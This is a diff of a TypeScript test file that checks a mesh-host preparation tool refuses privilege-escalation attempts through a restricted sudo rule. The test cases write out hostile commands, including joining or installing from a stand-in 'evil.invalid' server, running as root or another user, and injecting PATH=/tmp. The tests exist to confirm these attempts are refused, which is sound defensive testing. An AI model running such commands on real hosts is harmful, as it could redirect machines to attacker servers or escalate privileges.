@@ -2,7 +2,7 @@
 
 import { afterAll, beforeAll, expect, test } from "vitest";
 import type { Lab } from "../../lab/nspawn/index.ts";
-import { askPassword, asSteve, copy, files, password, prepare } from "./prepared.ts";
+import { askPassword, asSteve, files, installed, password, prepare } from "./prepared.ts";
 import { describeLab, freshHosts, mesh, openLab, sh } from "./support.ts";
 
 describeLab("mesh remote prepare", () => {
@@ -37,22 +37,22 @@ describeLab("mesh remote prepare", () => {
   });
 
   test.each([
-    ["another login server", "echo hskey-auth-x | COPY join --login-server http://evil.invalid --hostname h1"],
+    ["another login server", "echo hskey-auth-x | INSTALLED join --login-server http://evil.invalid --hostname h1"],
     [
       "another source",
-      `COPY install-tailscale --version 1.102.3 --source http://evil.invalid --signing-key ${"A".repeat(40)}`,
+      `INSTALLED install-tailscale --version 1.102.3 --source http://evil.invalid --signing-key ${"A".repeat(40)}`,
     ],
-    ["another user's Syncthing", "COPY install-syncthing --user root --gui-port 8384"],
-    ["a verb of preparing", "COPY prepare --undo"],
+    ["another user's Syncthing", "INSTALLED install-syncthing --user root --gui-port 8384"],
+    ["a verb of preparing", "INSTALLED prepare --undo"],
     ["an option of sudo", "sudo -n -u steve2 /usr/local/lib/mesh/mesh-host ab version"],
-    ["a variable for the copy", "sudo -n PATH=/tmp /usr/local/lib/mesh/mesh-host ab set --start"],
+    ["a variable for the installed program", "sudo -n PATH=/tmp /usr/local/lib/mesh/mesh-host ab repair --start"],
   ])("with the runner's key, %s is refused", async (_, words) => {
-    const { code, stdout } = await steve(words.replace("COPY", `sudo -n ${copy} ab`));
+    const { code, stdout } = await steve(words.replace("INSTALLED", `sudo -n ${installed} ab`));
     expect(code, stdout).not.toBe(0);
     expect(await sh(lab, "h1", "test -e /etc/sudoers.d/mesh && tailscale debug prefs")).not.toContain("evil");
   });
 
-  test("a copy of another release is said, a person is needed, and prepare again mends it", async () => {
+  test("an installed program of another release is said, a person is needed, and prepare again mends it", async () => {
     await sh(
       lab,
       "h1",
@@ -68,7 +68,7 @@ describeLab("mesh remote prepare", () => {
   test.each([
     ["asks a password for all else", ""],
     ["forbids all else", "Defaults:steve !authenticate"],
-  ])("where sudo allows the copy and %s, plan, apply and status work", async (_, line) => {
+  ])("where sudo allows the installed program and %s, plan, apply and status work", async (_, line) => {
     await sh(lab, "h1", `echo '${line}' >/etc/sudoers.d/lab; tailscale down; systemctl stop syncthing@steve`);
     try {
       expect((await steve("sudo -n true")).code).toBe(1);
@@ -87,6 +87,6 @@ describeLab("mesh remote prepare", () => {
     const run = await prepare(lab, "h1", ["--undo"]);
     expect(run.code, run.said).toBe(0);
     expect(await sh(lab, "h1", "ls -d /etc/mesh /usr/local/lib/mesh /etc/sudoers.d/mesh 2>/dev/null || true")).toBe("");
-    expect((await steve(`sudo -n ${copy} ab version`)).code).toBe(1);
+    expect((await steve(`sudo -n ${installed} ab version`)).code).toBe(1);
   });
 });
